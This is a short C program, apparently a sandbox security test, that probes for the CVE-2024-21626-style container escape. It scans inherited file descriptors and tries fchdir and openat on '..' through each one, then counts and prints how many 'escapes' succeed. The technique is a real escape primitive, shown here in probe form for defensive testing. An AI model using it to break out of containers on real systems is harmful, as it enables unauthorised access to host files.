/* CVE-2024-21626 style: scan fds 3..65535, try fchdir/openat(fd, "..") on each. */
#include "attack.h"
#include <fcntl.h>
int main(void)
{
	int fd, open_fds = 0, escapes = 0;
	for (fd = 3; fd < 65536; fd++) {
		if (fcntl(fd, F_GETFD) < 0)
			continue;
		open_fds++;
		if (fchdir(fd) == 0)
			escapes++;
		if (openat(fd, "..", O_RDONLY) >= 0)
			escapes++;
	}
	report("fchdir(100)", fchdir(100));
	printf("open_fds=%d escapes=%d\n", open_fds, escapes);
	return 0;
}
